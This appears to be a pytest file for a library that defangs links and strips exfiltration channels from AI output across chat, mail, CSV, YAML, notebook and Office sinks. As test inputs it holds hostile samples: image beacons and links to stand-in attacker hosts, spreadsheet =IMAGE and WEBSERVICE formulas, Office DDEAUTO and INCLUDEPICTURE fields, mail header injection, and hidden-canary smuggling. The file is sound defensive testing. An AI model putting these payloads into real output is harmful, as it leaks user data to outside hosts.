"""Kinds of fault that a bright adversary found, each with more than the input that showed it (E5)."""

# ruff: noqa: E501, RUF001 -- tables of payloads read better unbroken, and letters of other scripts are the point
from __future__ import annotations

import csv
import io
import json
import time
import zipfile
from collections.abc import Callable
from email.header import decode_header, make_header
from pathlib import Path

import pytest

from lockgate.contract.errors import ConfigError
from lockgate.render import Guard, Provenance, RenderPolicy, corpus, parse_html
from lockgate.render.visible import find_live
from render_payloads import live, renderers

LINK = "https://wiki.partner.example/page"
POLICY = RenderPolicy.of(links=["https://wiki.partner.example/*"], images=["https://img.partner.example/pub/*"])


def guard() -> Guard:
    return Guard(POLICY)


@pytest.mark.parametrize(
    "text",
    [
        "日本語、テキスト。次の文です。",
        "请看第三章。使用方法如下。",
        "１．５倍になる",
        "Это.Тест и ещё.одно",
        "مرحبا.كيف",
        "一。二。三",
    ],
)
def test_sentences_of_other_scripts_are_not_taken_for_hosts(text: str) -> None:
    """E5: over-blocking is a defect: a full stop between words of Chinese, Japanese or Russian breaks nothing."""
    assert guard().text(text).text == text
    assert "[" not in guard().markdown(text).text
    assert guard().slack(text).data["text"] == text


@pytest.mark.parametrize(
    "name", ["evil。com", "evil．com/x", "evil｡com", "💩.la", "i❤️.ws", "हिन्दी.com", "пример.рф", "例子.中国", "münchen.de", "evil.com是"]
)  # fmt: skip
def test_names_of_other_scripts_are_still_broken(name: str) -> None:
    """E5: a host name may be made of marks, pictures and letters of any script."""
    for made in (guard().text(f"see {name} now"), guard().terminal(name), guard().latex(name)):
        assert name not in made.text
    assert find_live(f"see {name}")
    for render in renderers().values():
        assert not live(render(guard().markdown(f"see {name} now").text))


@pytest.mark.parametrize(
    "text", ["1\ufe0f2\ufe0f3", "あ\ufe0fい\u200dう", "a\ufe0f\u200d😀", "#\ufe0f", "x\ufffe\uffff\ufdd0\U0001fffe", "\U00013430x"]
)  # fmt: skip
def test_selectors_and_joiners_carry_no_bits_between_letters(text: str) -> None:
    """E5: only a picture, a key cap and the scripts that join keep theirs."""
    made = guard().text(text).text
    assert not set(made) & set("\ufe0f\u200d\ufffe\uffff\ufdd0\U0001fffe\U00013430")


@pytest.mark.parametrize(
    "text",
    [
        "1\ufe0f\u20e3 *\ufe0f\u20e3",
        "❤\ufe0f ☎\ufe0f 〰\ufe0f ©\ufe0f",
        "🏳\ufe0f\u200d🌈 👩\u200d⚕\ufe0f",
        "می\u200cخواهم",
        "ന്\u200d",
    ],
)
def test_pictures_and_joining_scripts_stay(text: str) -> None:
    assert guard().text(text).text == text


@pytest.mark.parametrize("tail", ["。谢谢", "，然后", "」", "）", "…", "؟", "।", "»", "、b"])
def test_a_url_ends_before_the_punctuation_of_any_script(tail: str) -> None:
    """E5: no space stands between a URL and a full stop in Chinese or Japanese; the link was refused."""
    made = guard().markdown(f"见 {LINK}{tail}")
    assert made.denials == ()
    assert f"<{LINK}>{tail[0]}" in made.text
    known = Provenance()
    known.add_message(f"请看 https://news.example/a?b=1{tail}")
    assert known.origins("https://news.example/a?b=1") == {"user"}
    assert guard().markdown(f"{LINK}\u200b{tail}").denials


PROGRAM = 'File "/a/setup.py", line 3: self.data.id\nmain.rs:12:5 df.map(x) README.md numpy-1.2.zip'


def test_files_and_fields_stay_where_programs_are_shown() -> None:
    """E5: no terminal, and no code element of a chat, links a name without a scheme; a URL's own dots stay broken."""
    assert guard().terminal(PROGRAM).text == PROGRAM
    assert guard().log_line(PROGRAM.replace("\n", " ")).text == PROGRAM.replace("\n", " ")
    for made in (guard().slack(f"```\n{PROGRAM}\n```"), guard().teams(f"`{PROGRAM.splitlines()[1]}`")):
        assert "main.rs:12:5 df.map(x) README.md" in json.dumps(made.data.get("blocks") or made.data["body"])
    hostile = "https://evil.py/x www.evil.name a@evil.name evil.sh/x evil.com ftp://evil.id"
    assert guard().terminal(hostile).text == guard().text(hostile).text
    assert find_live(guard().terminal(hostile).text) is None
    assert guard().text("setup.py").text == "setup[.]py"


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(guard().csv(text).text)))


@pytest.mark.parametrize(
    "cell",
    ["+49 170 1234567", "+1 (555) 010 0199", "-1,000.50", "-1.000,5", "-1 234", "-.5", "-5 %", "-$5.00", "-5 \u20ac", "+5\u00b0C", "\u22125", "-", "--", "% of all", "|x|", "a=b", "5-3"],
)  # fmt: skip
def test_cells_that_calculate_nothing_stay(cell: str) -> None:
    """E5: negative numbers, telephone numbers and dashes are not formulas."""
    assert guard().cell(cell).text == cell


@pytest.mark.parametrize(
    "cell", ["\u2003=1", "\u201c=1", "\u00ab=1", "\ufe66=1+1", "\ufe63=1", "+49-170", "-1+1", "+1 2|x", "--1", "-1 =cmd", "+(1)", "\n=1"]
)  # fmt: skip
def test_cells_behind_any_space_or_quote_are_words(cell: str) -> None:
    assert guard().csv([[cell]]).text.lstrip('"')[0] == "'" or "\n'" in guard().csv([[cell]]).text


def test_any_line_end_and_any_size_of_a_csv_is_read() -> None:
    """E5: a lone carriage return and a huge cell raised an error of the csv module."""
    assert _cells('a\r=1\r\n=2\n\n"x""y",\'z') == [["a"], ["'=1"], ["'=2"], ['x"y', "'z"]]
    assert _cells('"open\n=1') == [["open\n'=1"]]
    assert _cells("a,b,") == [["a", "b", ""]]
    assert len(_cells("x" * 200_000)[0][0]) == 32_767
    made = guard().csv([("a", 1, None, 2.5, True), ["=x"]])
    assert made.text == '"a","1","","2.5","True"\r\n"\'=x"\r\n'
    big = Guard(RenderPolicy(max_bytes=100)).csv([["x" * 60], ["y" * 60]])
    assert (big.text, big.fell_back, big.denials[0].reason) == ("", True, "file_too_large")


def test_mail_breaks_names_in_code_blocks_too() -> None:
    """E5: mail clients make links wherever they stand."""
    for text in (
        "```\nhttps://attacker.example/\nwww.attacker.example\n```",
        "    a@attacker.example",
        "`www.attacker.example`",
    ):
        assert find_live(guard().email_html(text).text.replace("<", " ").replace(">", " ")) is None


def test_a_subject_keeps_its_script_on_one_line() -> None:
    """E5: a mail's subject is encoded words (RFC 2047), whose decoded form is one line without a link."""
    assert guard().subject("Offer 2").text == "Offer 2"
    made = guard().subject("Größe 寸法\r\nBcc: a@attacker.example https://attacker.example " + "ä" * 300)
    assert made.text.isascii()
    assert all(len(word) <= 75 for word in made.text.split())
    shown = str(make_header(decode_header(made.text)))
    assert shown.startswith("Größe 寸法\\x0aBcc: a[at]attacker[.]example https[:]//attacker[.]example ää")
    assert len(shown) == 200
    assert made.truncated > 300


@pytest.mark.parametrize(("name", "most"), [("discord", 2000), ("header", 200), ("subject", 200), ("cell", 32_767)])
def test_what_a_sink_has_no_room_for_is_counted(name: str, most: int) -> None:
    """E5: a cut is told, in bytes."""
    assert getattr(guard(), name)("x" * most).truncated == 0
    assert getattr(guard(), name)("x" * (most + 7)).truncated == 7
    assert guard().csv([["x" * 32_770, "y"]]).truncated == 3
    assert guard().csv("x" * 32_769).truncated == 2


def test_a_header_is_never_an_encoded_word() -> None:
    """E5: RFC 2047 words are decoded by the mail client, after every look at them."""
    made = guard().header("=?utf-8?b?aHR0cHM6Ly9hdHRhY2tlci5leGFtcGxlLw==?=").text
    assert str(make_header(decode_header(made))) == made


CODE = (
    "```python\n@app.route('/')\ndef f(): ...\n```\n\n> - ```\n>   @Inject x#1\n>   ```\n\nUse `@property` and `a/b#1`."
)


def test_a_forge_notifies_nobody_and_code_stays() -> None:
    """E5: decorators are no mentions; a number of another repository tells its owner."""
    made = guard().github(CODE).text
    assert "@app.route('/')" in made
    assert "@Inject x#1" in made
    assert "`@property` and `a/b#1`" in made
    assert guard().github("@user (@user) \\@user **@user**").text.count("\\[at\\]user") == 4
    assert guard().github("owner/next.js#12 fixes #3").text == "owner/next\\.js\\[\\#\\]12 fixes \\#3\n"
    assert "<https://wiki.partner.example/a-@b>" not in guard().github("x").text


def _strings(node: object) -> list[str]:
    if isinstance(node, dict):
        return [text for key, value in node.items() for text in ([value] if key == "text" else _strings(value))]
    return [text for one in node for text in _strings(one)] if isinstance(node, list) else []


def test_prices_and_tasks_keep_their_marks_in_every_sink() -> None:
    """E5: what a parser takes for a formula may be two prices; a box is a part of the answer."""
    text = "From $5-$10, and $PATH:$HOME.\n\n- [x] done\n- [ ] open\n"
    for made in (
        guard().slack(text),
        guard().teams(text),
        guard().jira(text),
        guard().html(text),
        guard().email_html(text),
    ):
        words = "".join(_strings(made.data)) if made.text[:1] == "{" else made.text
        assert "$5-$10" in words
        assert "$PATH:$HOME" in words
        assert "☑ " in words
        assert "☐ " in words
    assert "  • ☑ done\\n  • ☐ open" in guard().slack(text).text
    quoted = guard().jira(f"> see [page]({LINK})\n\n3. a\n4. b\n").data["content"]
    assert LINK in json.dumps(quoted[0])
    assert quoted[1]["attrs"] == {"order": 3}


@pytest.mark.parametrize(
    "wrap",
    [
        lambda card: card,
        lambda card: [card],
        lambda card: {"type": "message", "attachments": [{"contentType": "application/vnd.microsoft.card.adaptive", "content": card}]},
        lambda card: {**card, "type": "adaptivecard"},
    ],
)  # fmt: skip
def test_cards_are_rebuilt_wherever_they_stand(wrap: Callable[[dict[str, object]], object]) -> None:
    card: dict[str, object] = {
        "type": "AdaptiveCard",
        "body": [{"type": "Image", "url": "https://attacker.example/i", "altText": "a chart"}],
    }
    made = guard().teams(json.dumps(wrap(card)))
    assert made.data["body"] == [{"type": "RichTextBlock", "inlines": [{"type": "TextRun", "text": "a chart"}]}]
    assert made.denials[0].host == "attacker[.]example"


def test_a_card_with_too_many_parts_says_so() -> None:
    card = {"type": "AdaptiveCard", "body": [{"type": "TextBlock", "text": f"word{n}"} for n in range(300)]}
    made = guard().teams(json.dumps(card))
    assert made.fell_back
    assert "word299" in made.text


@pytest.mark.parametrize(
    "text",
    [
        "$schema:\n  https://attacker.example/", "? $schema\n: https://attacker.example/", '"\\u0024schema": https://attacker.example/',
        "$ref:\n  https://attacker.example/", "{a: {$schema: https://attacker.example/}}", "# $schema: https://attacker.example/\na: 1",
        "a: {$ref: https://attacker.example/}", "- $ref: 'https://attacker.example/'", "a: !attacker.example x", "a: !<tag:attacker.example> x",
    ],
)  # fmt: skip
def test_no_spelling_of_a_schema_is_left_in_yaml(text: str) -> None:
    """E5: an editor fetches it; what cannot be taken out by the line refuses the file."""
    made = guard().yaml(text)
    assert "attacker" not in made.text
    assert made.denials


def test_yaml_stays_yaml_where_a_reference_was_taken_out() -> None:
    assert (
        guard().yaml("- $ref: 'https://attacker.example/'\n- {$ref: https://attacker.example/, b: 1}\n").text
        == "- $ref: '#'\n- {$ref: '#', b: 1}\n"
    )
    assert guard().yaml("a: {$ref: '#/x'}\n- b\n").text == "a: {$ref: '#/x'}\n- b\n"


def test_json_keys_are_found_in_any_case_and_data_stays() -> None:
    made = guard().json(
        '{"$Schema": "https://attacker.example", "extends": "https://attacker.example", "a": {"extends": "./base", "url": "x"}}'
    )
    assert json.loads(made.text) == {"a": {"extends": "./base", "url": "x"}}


def test_a_notebook_shows_no_raw_cell_and_no_link() -> None:
    """E5: exporters copy a raw cell into the page, and a page makes links of an output's words."""
    url = "https://attacker.example/?d=S"
    book = {"cells": [
        {"cell_type": "raw", "source": f"```\n<img src={url}>"},
        {"cell_type": "code", "source": f"get('{url}')", "outputs": [
            {"output_type": "stream", "text": url}, {"output_type": "error", "ename": "E", "evalue": url},
            {"output_type": "display_data", "data": {"text/plain": url}}]}]}  # fmt: skip
    cells = json.loads(guard().ipynb(json.dumps(book)).text)["cells"]
    assert cells[0]["cell_type"] == "markdown"
    for render in renderers().values():
        assert not live(render(cells[0]["source"]))
    assert cells[1]["source"] == f"get('{url}')"
    assert "https:" not in json.dumps(cells[1]["outputs"])


@pytest.mark.parametrize(
    "book",
    [
        {"cells": 5}, {"cells": [5, None, {}]}, {"cells": [{"cell_type": "code", "outputs": 5}]}, {"cells": [{"cell_type": "code", "outputs": {"a": 1}}]},
        {"cells": [{"cell_type": "code", "outputs": [{"output_type": "display_data", "data": [1]}]}]}, {"cells": [{"cell_type": 5, "source": {"a": 1}}]}, [], 5,
    ],
)  # fmt: skip
def test_a_file_of_another_shape_is_refused_or_rebuilt_never_a_crash(book: object) -> None:
    """E5: an index or attribute error of a hostile shape came out of the guard."""
    for made in (
        guard().ipynb(json.dumps(book)),
        guard().teams(json.dumps({"type": "AdaptiveCard", "body": book, "url": book})),
    ):
        assert made.fell_back == (not made.text)


@pytest.mark.parametrize("text", ['{"a": NaN}', '{"a": Infinity}', '{"a": 1e999}'])
def test_json_that_is_none_is_refused(text: str) -> None:
    assert guard().json(text).fell_back


@pytest.mark.parametrize("call", ["markdown", "html", "text", "csv", "json", "slack", "office", "log_line"])
@pytest.mark.parametrize("given", [None, 5, {"a": 1}])
def test_what_is_no_text_is_a_typed_error(call: str, given: object) -> None:
    with pytest.raises(ConfigError):
        getattr(guard(), call)(given)


@pytest.mark.parametrize(
    "wrong",
    [
        lambda: guard().csv([["a"], "b"]), lambda: guard().csv([[object()]]), lambda: guard().markdown("x", source="pdf"),  # type: ignore[arg-type, list-item]
        lambda: RenderPolicy.of(links="https://a.example/*"), lambda: RenderPolicy(links=("https://a.example/*",)),  # type: ignore[arg-type]
        lambda: Guard({"links": []}), lambda: Guard(None, ["https://a.example"]), lambda: Provenance().add(5, "user"),  # type: ignore[arg-type]
        lambda: Provenance().add("https://a.example/", "nobody"), lambda: RenderPolicy.of(canaries="LGCANARY12345678"),  # type: ignore[arg-type]
    ],
)  # fmt: skip
def test_wrong_use_says_what_to_give(wrong: Callable[[], object]) -> None:
    with pytest.raises(ConfigError) as caught:
        wrong()
    assert caught.value.next_step


def test_floods_end_soon() -> None:
    """E5: each of these took time with the square of its size; the bound is far above what they take now."""
    began = time.monotonic()
    for flood in ("_a_ " * 60_000, "<div>" * 50_000, "<span>" * 40_000):
        assert guard().markdown(flood).text
    guard().csv("\n" * 250_000)
    guard().csv("=" * 250_000)
    guard().github("`" * 120_000 + "x\n@a\n" + "`" * 120_000)
    _office(SHEET, f"<f>{'a-' * 20_000}:</f>")
    assert time.monotonic() - began < 60


def test_markup_without_a_name_is_no_crash(monkeypatch: pytest.MonkeyPatch) -> None:
    """E5: an error that nobody thought of shows the words, and is a critical denial."""

    def broken(*_: object) -> None:
        raise TypeError("a synthetic fault of a parser")

    monkeypatch.setattr(parse_html._Builder, "report", broken)
    made = guard().html("<b>words</b> https://attacker.example", source="html")
    assert (made.fell_back, made.denials[-1].reason, made.denials[-1].severity) == (True, "parser_failed", "critical")
    assert "words" in made.text


@pytest.mark.parametrize(
    ("text", "host"),
    [
        ("https://attacker.example/?d", "attacker[.]example"), ("www.attacker.example", "www[.]attacker[.]example"), ("javascript:x(1)", None),
        ("mailto:a@attacker.example", None),
    ],
)  # fmt: skip
def test_what_plain_sinks_break_is_denied_with_its_host(text: str, host: str | None) -> None:
    """E5: a row says what would have been a link, also where its scheme has no slashes."""
    for made in (guard().text(text), guard().terminal(text), guard().latex(text)):
        assert [(one.reason, one.host) for one in made.denials] == [("url_defanged", host)]
    assert guard().text("www. and javascript: are words").denials == ()


def test_a_formula_is_denied_when_a_cell_was_changed() -> None:
    for rows in ([["-1+1"]], [["x", '=IMAGE("https://attacker.example/")']], [["a\n@b"]]):
        made = guard().csv(rows)
        assert [one.reason for one in made.denials] == ["formula"]
    assert made.denials[0].host is None
    assert guard().csv('=IMAGE("https://attacker.example/")').denials[0].host == "attacker[.]example"
    assert guard().csv([["-5", "x", "it's =fine"]]).denials == ()


def test_a_script_that_names_no_host_is_told_too() -> None:
    for text in ("<script>x()</script>a", "a <iframe></iframe>", "<object></object>"):
        assert guard().markdown(text).denials[0].reason.startswith("markup_removed:")


def test_the_host_of_a_style_is_told() -> None:
    made = guard().html('<style>@import "https://attacker.example"; a{b:url(//other.example)}</style>x', source="html")
    assert made.denials[0].host == "attacker[.]example"


def _office(part: str, body: str | bytes) -> tuple[str, ...]:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr(part, body)
    return tuple(one.reason for one in guard().office(out.getvalue()))


WORD, SHEET, ODF = "word/document.xml", "xl/worksheets/sheet1.xml", "content.xml"


@pytest.mark.parametrize(
    ("part", "body", "reason"),
    [
        (WORD, "<a><w:instrText>&#73;NCLUDEPICTURE x</w:instrText></a>", "office_field"),
        (WORD, "<a><other:instrText>INCL</other:instrText><t/><instrText>UDETEXT x</instrText></a>", "office_field"),
        (WORD, "<a><w:delInstrText>DDEAUTO x</w:delInstrText></a>", "office_field"),
        (WORD, '<w:fldSimple w:instr=" &#x49;NCLUDEPICTURE x"/>', "office_field"),
        (WORD, '<v:imagedata src="//attacker.example/a"/>', "office_external"),
        ("xl/drawings/vmlDrawing1.vml", '<v:shape o:href="https://attacker.example"/>', "office_external"),
        (WORD, "<w:mailMerge/>", "office_active_part"),
        ("ppt/slides/slide1.xml", '<a:hlinkClick action="ppaction://program"/>', "office_active_part"),
        (SHEET, "<f>&#87;EBSERVICE(A1)</f>", "office_formula"),
        (SHEET, "<x:formula1><![CDATA[WEB]]>SERVICE(A1)</x:formula1>", "office_formula"),
        ("xl/workbook.xml", "<definedName name='a'>_xlfn.IMAGE(A1)</definedName>", "office_formula"),
        (SHEET, "<f>'[b.xlsx]My-Sheet'!A1</f>", "office_formula"),
        (SHEET, "<f>[1]Sheet1!A1</f>", "office_formula"),
        (ODF, "<c table:formula='of:=WEBSERVICE(1)'/>", "office_formula"),
        (ODF, "<c table:formula=\"of:='file:///x.ods'#$S.A1\"/>", "office_formula"),
        (ODF, '<a y:href="h&#116;tps://attacker.example"/>', "office_external"),
        (ODF, "<office:dde-source/>", "office_active_part"),
        ("customXml/item1.xml", "<DataMashup/>", "office_active_part"),
        ("word/any.name", "<a><instrText>INCLUDEPICTURE x</instrText></a>", "office_field"),
        ("word/media/image.png", b"PK\x03\x04inner", "office_active_part"),
        ("word/media/image.png", b"\xd0\xcf\x11\xe0ole", "office_active_part"),
        ("word/_rels/d.rels", "<R><Relationship Target='..\\..\\x'/></R>", "office_external"),
        ("word/_rels/d.rels", "<?xml version='1.0' encoding='cp037'?><R/>".encode("cp037"), "office_unreadable"),
        (WORD, "<not well-formed", "office_unreadable"),
    ],
)  # fmt: skip
def test_no_spelling_hides_what_reaches_out_in_an_office_file(part: str, body: str | bytes, reason: str) -> None:
    """E5: a search for bytes missed references, CDATA, other prefixes, other elements and parts by other names."""
    assert _office(part, body) == (reason,)


@pytest.mark.parametrize(
    "formula", ["SUM(A1:A3)*Table1[Col]", 'IF(A1="|","a!",B1)', "Table1[Col]&amp;Sheet1!A1", "'My Sheet'!B2", 'A1&amp;"https://x"', "of:=[$S.A1]+1"]
)  # fmt: skip
def test_ordinary_formulas_leave(formula: str) -> None:
    """E5: a column of a table and a bar in words are no other file."""
    assert _office(SHEET, f"<f>{formula}</f>") == ()
    assert _office("ppt/slides/_rels/slide1.xml.rels", '<R><Relationship Target="../media/image1.png"/></R>') == ()
    assert _office("word/media/image1.png", b"\x89PNG\r\n\x1a\n") == ()


def _case(expected: str, sink: str, text: object) -> dict[str, object]:
    rules = "images only https://cdn.allowed.example/static/*; links only https://docs.allowed.example/*"
    return {"id": "K", "sink": sink, "expected": expected, "input": text, "policy_text": rules}


@pytest.mark.parametrize(
    "case",
    [
        _case("allow", "csv-file", "name,n\nBob,-1.5"), _case("allow", "chat-markdown", "$x_1$ costs $5-$10 or $PATH:$HOME"),
        _case("block_canary", "chat-markdown", "LGCANARY7f**3a9c1e5d2b4860**"), _case("block_canary", "chat-markdown", "LGCANARY7f<b></b>3a9c1e5d2b4860"),
        _case("block_canary", "chat-markdown", "`" + "\u200b".join("LGCANARY7f3a9c1e5d2b4860") + "`"),
        _case("block_canary", "chat-markdown", "```\n" + b"LGCANARY7f3a9c1e5d2b4860".hex() + "\n```"),
        _case("block_canary", "chat-markdown", ["LGCANARY7f3a", "9c1e5d2b4860"]),
        _case("limit_images", "chat-markdown", "".join(f"![{c}](https://cdn.allowed.example/static/{c}.png)" for c in "secret")),
        _case("strip", "ipynb", json.dumps({"cells": [{"cell_type": "code", "source": "get('https://evil.test/')", "outputs": []}]})),
        _case("strip", "json-file", '{"a": "https://evil.test/"}'),
    ],
)  # fmt: skip
def test_the_judge_of_cases_is_right_about_ordinary_ones(case: dict[str, object]) -> None:
    assert corpus.check(case).reason == ""


def test_the_judge_sees_more_images_than_the_cap(monkeypatch: pytest.MonkeyPatch) -> None:
    """Negative control: a guard without caps fails the case."""
    monkeypatch.setattr(
        corpus, "Guard", lambda policy: Guard(RenderPolicy(links=policy.links, images=policy.images, max_images=99))
    )
    text = "".join(f"![{c}](https://cdn.allowed.example/static/{c}.png)" for c in "secret")
    assert "images are shown" in corpus.check(_case("limit_images", "chat-markdown", text)).reason


def test_the_file_of_an_office_case_is_a_real_one(tmp_path: Path) -> None:
    from lockgate.render.corpus_office import office_sample

    (tmp_path / "a.docx").write_bytes(office_sample("relationship External https://evil.test/x"))
    with zipfile.ZipFile(tmp_path / "a.docx") as archive:
        assert "word/document.xml" in archive.namelist()
